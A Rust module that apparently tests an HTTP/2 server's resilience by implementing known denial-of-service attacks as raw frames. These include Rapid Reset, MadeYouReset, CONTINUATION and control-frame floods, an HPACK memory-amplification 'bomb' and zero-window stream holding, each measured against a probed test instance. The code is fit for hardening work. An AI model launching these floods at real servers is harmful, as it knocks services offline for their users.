//! Attacks on HTTP/2.

use std::ops::Range;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::sleep;

use super::field_block::{entry, literals, reference, request};
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, preface, stream,
};
use super::wire::Wire;
use super::{Arena, Attack, Felt, PATIENCE};

/// Connections of an attack that is about memory: enough for the noise of an allocator to vanish.
const HEAVY: usize = 32;
/// Streams that a connection may have by default.
const STREAMS: u32 = 64;
/// For the instance to settle.
const SETTLE: Duration = Duration::from_millis(300);

/// A flood of frames on one connection, read to its end.
pub(super) async fn flood(arena: &Arena<'_>, attack: Attack) -> Felt {
    let Some(mut wire) = begin(arena, &[]).await else { return Felt::default() };
    let flood = frames_of(attack);
    // While the flood is written the answers have to be read, else it is about slow reading.
    for piece in flood.chunks(4 * 1024) {
        if !wire.send(piece).await || wire.drain(Duration::from_millis(1)).await {
            break;
        }
    }
    let others_served = arena.serves_others().await;
    let left = u64::from(!wire.drain(PATIENCE).await);
    let sent_bytes = wire.sent_bytes();
    Felt { opened: 1, left, sent_bytes, held_bytes: 0, others_served }
}

fn frames_of(attack: Attack) -> Vec<u8> {
    let get = |at| frame(HEADERS, END_HEADERS | END_STREAM, stream(at), &request("GET", "/about/"));
    let reset = |at| frame(RST_STREAM, 0, stream(at), &[0, 0, 0, 8]);
    match attack {
        Attack::RapidReset => (0..2_000).flat_map(|at| [get(at), reset(at)].concat()).collect(),
        Attack::MadeYouReset => {
            // RFC 9113 §8.2.1: white space around a value makes a request malformed.
            let block = [request("GET", "/about/"), literals(&[("x-a", " malformed")])].concat();
            let one = |at| frame(HEADERS, END_HEADERS | END_STREAM, stream(at), &block);
            (0..600).flat_map(one).collect()
        }
        Attack::Continuation => {
            let begin = frame(HEADERS, END_STREAM, 1, &request("GET", "/about/"));
            let more = frame(CONTINUATION, 0, 1, &literals(&[("a", "b")]));
            [begin, more.repeat(1_000)].concat()
        }
        Attack::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(2_000),
        Attack::Ping => frame(PING, 0, 0, &[7; 8]).repeat(5_000),
        Attack::EmptyData => {
            let begin = frame(HEADERS, END_HEADERS, 1, &request("POST", "/about/"));
            [begin, frame(DATA, 0, 1, &[]).repeat(5_000)].concat()
        }
        Attack::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(5_000),
        _ => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(5_000),
    }
}

/// Heads that take a few bytes on the wire and kilobytes in memory, held open by content that never
/// comes.
pub(super) async fn bomb(arena: &Arena<'_>) -> Felt {
    held_open(arena, |_, streams| fuse(streams)).await
}

/// As many streams as a connection may have, each with a head like a browser's: half of them wait for
/// content that never comes, half for a page that takes its time.
pub(super) async fn bomb_streams(arena: &Arena<'_>) -> Felt {
    held_open(arena, |connection, streams| streams.flat_map(|at| small(connection, at)).collect())
        .await
}

/// Opens all the streams that there may be on each connection, looks at what they hold, and then goes
/// on to open streams until each connection is closed. `block` makes the frames that open some.
async fn held_open(arena: &Arena<'_>, block: impl Fn(usize, Range<u32>) -> Vec<u8>) -> Felt {
    let mut wires = Vec::new();
    for _ in 0..HEAVY {
        wires.extend(begin(arena, &[]).await);
    }
    sleep(SETTLE).await;
    let idle = arena.probe.resident_bytes();
    for (at, wire) in wires.iter_mut().enumerate() {
        wire.send(&block(at, 0..STREAMS)).await;
    }
    let held = arena.most_held(idle).await;
    let others_served = arena.serves_others().await;
    // Who was told to go elsewhere and goes on is closed: that is not what is measured above.
    for (at, wire) in wires.iter_mut().enumerate() {
        wire.send(&block(at, STREAMS..3 * STREAMS)).await;
    }
    let opened = wires.len() as u64;
    let sent_bytes = wires.iter().map(Wire::sent_bytes).sum();
    // Read, all of them at once: what is not read keeps a connection from closing.
    let mut reading = JoinSet::new();
    for mut wire in wires {
        reading.spawn(async move { wire.drain(PATIENCE).await });
    }
    reading.join_all().await;
    let left = arena.wait_until_gone().await;
    Felt { opened, left, sent_bytes, held_bytes: held, others_served }
}

/// 44 names go into the table with the first stream; then each refers to all of them twice, a byte
/// each.
fn fuse(streams: Range<u32>) -> Vec<u8> {
    let entries: Vec<u8> = (0..44).flat_map(|at| entry(&format!("x-field-{at}"), "")).collect();
    let first = [request("POST", "/about/"), entries].concat();
    let all: Vec<u8> = (0..88).map(|at| reference(at % 44)).collect();
    let next = [request("POST", "/about/"), all].concat();
    let block = |at| if at == 0 { &first } else { &next };
    streams.flat_map(|at| frame(HEADERS, END_HEADERS, stream(at), block(at))).collect()
}

/// A request with fields as a browser has them, which are no secret of the table.
fn small(connection: usize, at: u32) -> Vec<u8> {
    let waits = format!("/search?q=w{connection}x{at}");
    let (method, path, flags) = match at % 2 {
        0 => ("POST", "/about/", END_HEADERS),
        _ => ("GET", waits.as_str(), END_HEADERS | END_STREAM),
    };
    let names: Vec<String> = (0..13).map(|field| format!("x-field-{field}")).collect();
    let fields: Vec<(&str, &str)> =
        names.iter().map(|name| (name.as_str(), "some value")).collect();
    frame(HEADERS, flags, stream(at), &[request(method, path), literals(&fields)].concat())
}

/// Pages asked for with a window of zero, which never opens; PING frames keep up appearances.
pub(super) async fn zero_window(arena: &Arena<'_>) -> Felt {
    let block = request("GET", "/about/");
    let get = |at| frame(HEADERS, END_HEADERS | END_STREAM, stream(at), &block);
    // The page is held from now on: what waits is an answer in hand.
    if let Some(mut first) = begin(arena, &[]).await {
        first.send(&get(0)).await;
        first.drain(SETTLE).await;
    }
    let mut wires = Vec::new();
    for _ in 0..HEAVY {
        wires.extend(begin(arena, &[(INITIAL_WINDOW, 0)]).await);
    }
    for wire in &mut wires {
        for at in 0..10 {
            wire.send(&get(at)).await;
        }
    }
    for _ in 0..20 {
        for wire in &mut wires {
            wire.send(&frame(PING, 0, 0, &[7; 8])).await;
            wire.drain(Duration::from_millis(1)).await;
        }
        if arena.probe.open_connections() == 0 {
            break;
        }
        sleep(SETTLE / 3).await;
    }
    let opened = wires.len() as u64;
    let sent_bytes = wires.iter().map(Wire::sent_bytes).sum();
    let others_served = arena.serves_others().await;
    for wire in &mut wires {
        wire.drain(Duration::from_millis(50)).await;
    }
    let left = arena.wait_until_gone().await;
    Felt { opened, left, sent_bytes, held_bytes: 0, others_served }
}

async fn begin(arena: &Arena<'_>, settings: &[(u16, u32)]) -> Option<Wire> {
    let mut wire = arena.tls().await?;
    wire.send(&preface(settings)).await;
    // The server's own settings, and their acknowledgement.
    wire.drain(Duration::from_millis(20)).await;
    wire.send(&frame(SETTINGS, 1, 0, &[])).await;
    Some(wire)
}
